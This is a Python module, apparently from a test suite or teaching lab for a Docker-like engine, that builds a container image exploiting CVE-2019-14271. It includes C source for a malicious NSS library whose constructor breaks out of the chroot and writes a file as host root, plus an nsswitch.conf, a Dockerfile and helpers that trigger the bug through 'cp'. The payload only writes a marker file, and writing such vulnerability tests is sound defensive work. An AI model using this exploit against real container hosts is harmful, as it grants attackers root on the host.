"""The CVE-2019-14271 attack: an image whose NSS configuration makes `docker cp` load the image's library as host root.

Docker 19.03.0's `docker cp` ran its tar helper chrooted into the container; Go's archive/tar looked
up owner names, so glibc read the container's /etc/nsswitch.conf and dlopen()ed the container's
libnss_*.so inside a process that was host root. This image ships /etc/nsswitch.conf saying
`passwd: evil files` and a libnss_evil.so.2 whose constructor breaks out of the chroot (root may
chroot again and climb out with `..`) and writes the marker file the caller named.
"""

from __future__ import annotations

from pathlib import Path

from . import Status, compile_c, compiler, must  # noqa: F401 - compiler: the tests' skip condition

NSSWITCH = "passwd: evil files\ngroup: evil files\nshadow: evil files\n"
INSIDE_MARKER = "/nss-evil-ran"  # written first, inside the container's root: proof the library ran at all

C_SOURCE = r"""
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Runs as soon as glibc dlopen()s this file to look up a user or a group. */
__attribute__((constructor)) static void escape(void)
{
    int fd = open(INSIDE_MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0)
        close(fd);
    /* The classic chroot escape: chroot into a subdirectory; the cwd is now outside the root, so
       ".." climbs to the real root, where chroot(".") lands. */
    mkdir("/.nss-evil", 0700);
    if (chroot("/.nss-evil") != 0)
        return;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        return;
    fd = open(MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        const char msg[] = "written by the image's libnss_evil.so.2, as host root\n";
        write(fd, msg, strlen(msg));
        close(fd);
    }
}
"""

DOCKERFILE = f"""FROM busybox
COPY nsswitch.conf /etc/nsswitch.conf
COPY libnss_evil.so.2 /lib/x86_64-linux-gnu/libnss_evil.so.2
COPY libnss_evil.so.2 /usr/lib/x86_64-linux-gnu/libnss_evil.so.2
COPY libnss_evil.so.2 /lib/libnss_evil.so.2
COPY libnss_evil.so.2 /usr/lib/libnss_evil.so.2
CMD ["sh", "-c", "test -e {INSIDE_MARKER} && echo the library ran in here || echo no library ran in here"]
"""


def build_context(dest: Path, marker: Path) -> Path:
    """A build context for the evil image whose library writes `marker` (a host path) when it escapes."""
    dest.mkdir(parents=True, exist_ok=True)
    (dest / "evil.c").write_text(C_SOURCE)
    compile_c(dest / "evil.c", dest / "libnss_evil.so.2", "-shared", "-fPIC", f'-DMARKER="{marker}"',
              f'-DINSIDE_MARKER="{INSIDE_MARKER}"')
    (dest / "nsswitch.conf").write_text(NSSWITCH)
    (dest / "Dockerfile").write_text(DOCKERFILE)
    return dest


def build_image(status: Status, tag: str, workdir: Path, marker: Path) -> str:
    """Build the evil image as `tag` (a learner's own image: any user of the engine can build one)."""
    must(status, "build", "-q", "-t", tag, str(build_context(workdir / "nss-context", marker)))
    return tag


def copy_out(status: Status, container: str, dest: Path) -> tuple[int, str]:
    """`minidocker cp CONTAINER:/etc/passwd DEST`: the copy the attack waits for (its exit code, output)."""
    return status("cp", f"{container}:/etc/passwd", str(dest))


def copy_in(status: Status, container: str, src: Path) -> tuple[int, str]:
    """`minidocker cp SRC CONTAINER:/tmp/`: the other direction."""
    return status("cp", str(src), f"{container}:/tmp/")
